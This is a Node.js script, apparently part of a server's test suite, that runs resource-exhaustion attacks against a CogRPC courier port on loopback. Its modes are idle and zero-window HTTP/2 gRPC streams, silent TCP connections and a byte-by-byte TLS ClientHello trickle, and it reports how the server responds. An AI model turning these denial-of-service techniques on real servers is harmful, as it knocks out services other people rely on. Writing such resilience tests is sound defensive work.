// Cheap resource attacks on the courier's CogRPC port, from chosen loopback source addresses.
//   node attack.mjs ATTACK PORT JSON-OPTIONS
// Prints {"ready": ...} once the attack is in place, keeps it up (re-opening what the server
// ends) until standard input closes, then prints {"outcomes": {...}} and exits.
//   idle-deliver {sources, connections, streams}: DeliverCargo calls that never send
//   zero-window  {sources, connections, streams, authorization}: CollectCargo calls with a zero
//                stream window that never read
//   silent-tcp   {sources, count}: TCP connections that never send a byte
//   trickle      {sources, count, intervalMs}: a TLS ClientHello sent one byte at a time
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';

const HOST = '127.0.0.1';
const [attack, portText, optionsText] = process.argv.slice(2);
const port = Number(portText);
const options = JSON.parse(optionsText ?? '{}');
const outcomes = {};
const sockets = new Set();
const sessions = new Set();
let stopping = false;

function count(what) {
  outcomes[what] = (outcomes[what] ?? 0) + 1;
}

function tlsTo(source) {
  return tls.connect({ host: HOST, port, localAddress: source, ALPNProtocols: ['h2'],
    rejectUnauthorized: false });
}

function openStream(session, path, headers, source) {
  if (stopping || session.closed || session.destroyed) return;
  const stream = session.request({ ':method': 'POST', ':path': path,
    'content-type': 'application/grpc', te: 'trailers', ...headers }, { endStream: false });
  stream.pause(); // read nothing
  let status = 'reset';
  stream.on('response', (h) => { if (h['grpc-status'] !== undefined) status = h['grpc-status']; });
  stream.on('trailers', (h) => { status = h['grpc-status'] ?? status; });
  stream.on('error', () => {});
  stream.on('close', () => {
    if (stopping) return;
    count(`status_${status}`);
    // An attacker comes straight back; a refused call is retried a moment later.
    setTimeout(() => openStream(session, path, headers, source), status === '0' ? 0 : 200);
  });
}

function h2Calls(path, headers, settings) {
  let opened = 0;
  for (const source of options.sources) {
    for (let c = 0; c < options.connections; c++) {
      const session = http2.connect(`https://${HOST}:${port}`,
        { createConnection: () => tlsTo(source), settings });
      sessions.add(session);
      session.on('error', () => count('session_error'));
      session.on('close', () => count('session_closed'));
      for (let s = 0; s < options.streams; s++) {
        openStream(session, path, headers, source);
        opened++;
      }
    }
  }
  return opened;
}

function silentTcp() {
  let open = 0;
  return new Promise((resolve) => {
    for (let i = 0; i < options.count; i++) {
      const source = options.sources[i % options.sources.length];
      const socket = net.connect({ host: HOST, port, localAddress: source });
      sockets.add(socket);
      socket.on('connect', () => { if (++open === options.count) resolve(open); });
      socket.on('error', () => count('error'));
      socket.on('close', () => { if (!stopping) count('closed_by_server'); });
    }
    setTimeout(() => resolve(open), 10_000);
  });
}

function clientHello() {
  // Capture the ClientHello Node sends, from a listener that never answers.
  return new Promise((resolve) => {
    const server = net.createServer((socket) => {
      socket.once('data', (data) => { resolve(data); socket.destroy(); server.close(); });
    });
    server.listen(0, HOST, () => {
      const client = tls.connect({ host: HOST, port: server.address().port,
        ALPNProtocols: ['h2'], rejectUnauthorized: false });
      client.on('error', () => {});
    });
  });
}

async function trickle() {
  const hello = await clientHello();
  for (let i = 0; i < options.count; i++) {
    const source = options.sources[i % options.sources.length];
    const socket = net.connect({ host: HOST, port, localAddress: source });
    sockets.add(socket);
    let sent = 0;
    const timer = setInterval(() => {
      if (sent < hello.length) socket.write(hello.subarray(sent, ++sent));
    }, options.intervalMs);
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(timer);
      if (!stopping) count(sent < hello.length ? 'closed_mid_hello' : 'closed_after_hello');
    });
  }
  return { count: options.count, helloBytes: hello.length };
}

let ready;
if (attack === 'idle-deliver') {
  ready = h2Calls('/relaynet.cogrpc.CargoRelay/DeliverCargo', {}, {});
} else if (attack === 'zero-window') {
  ready = h2Calls('/relaynet.cogrpc.CargoRelay/CollectCargo',
    { authorization: options.authorization }, { initialWindowSize: 0 });
} else if (attack === 'silent-tcp') {
  ready = await silentTcp();
} else if (attack === 'trickle') {
  ready = await trickle();
} else {
  throw new Error(`unknown attack ${attack}`);
}
process.stdout.write(JSON.stringify({ ready }) + '\n');
process.stdin.resume();
process.stdin.on('end', () => {
  stopping = true;
  process.stdout.write(JSON.stringify({ outcomes }) + '\n');
  for (const socket of sockets) socket.destroy();
  for (const session of sessions) session.destroy();
  process.exit(0);
});
